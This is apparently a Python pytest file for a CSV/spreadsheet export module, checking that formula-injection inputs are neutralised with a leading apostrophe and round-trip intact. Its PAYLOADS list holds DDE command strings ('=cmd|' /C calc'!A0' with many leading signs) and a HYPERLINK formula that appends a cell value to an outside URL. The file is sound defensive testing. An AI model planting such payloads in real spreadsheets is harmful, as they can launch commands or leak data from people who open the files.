"""Cells on their way out and back: nothing runs as a formula, nothing is changed."""

from __future__ import annotations

from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from persona_core.kit.sheets import read_table, safe_cell, unguard, write_csv

SIGNS = "=+-@\t\r\n\0＝＋－＠"
PAYLOADS = [
    *(f"{sign}cmd|' /C calc'!A0" for sign in SIGNS),
    *SIGNS,
    '=HYPERLINK("http://x/?"&A1,"点我")',
    "@SUM(1+1)*cmd",
    "+8613800138000",
    "-5",
    "'=already guarded",
    "''=twice",
    "=",
]
HARMLESS = ["", "甲公司", "'", "''", "'quoted'", "a=b", " =1", "5-3", "“引号”", 'a"b', "多\n行", "，", "王总=老板"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_dangerous_text_is_guarded_once_and_comes_back_equal(text: str) -> None:
    assert safe_cell(text) == f"'{text}"
    assert unguard(safe_cell(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_left_alone_both_ways(text: str) -> None:
    assert safe_cell(text) == text
    assert unguard(text) == text


def test_our_own_numbers_and_dates_stay_plain() -> None:
    moment = datetime(2026, 1, 2, 3, 4, tzinfo=UTC)
    assert [safe_cell(v) for v in (-5, -1.5, Decimal("-2.50"), True, None)] == ["-5", "-1.5", "-2.50", "true", ""]
    assert [safe_cell(v) for v in (date(2026, 1, 2), moment)] == ["2026-01-02", "2026-01-02T03:04:00+00:00"]


def test_a_written_file_is_read_back_equal() -> None:
    texts = [text for text in PAYLOADS + HARMLESS if "\0" not in text and text]
    data = write_csv(["编号", "=文本"], [[number, text] for number, text in enumerate(texts)])
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\r\n") == len(texts) + 1
    sheet = read_table(data, "out.csv")
    assert [unguard(name) for name in sheet.header] == ["编号", "=文本"]
    assert [unguard(row[1]) for row in sheet.rows] == texts


def test_text_that_no_file_can_hold_is_made_visible() -> None:
    assert b"\\ud800" in write_csv(["a"], [["x\ud800"]])
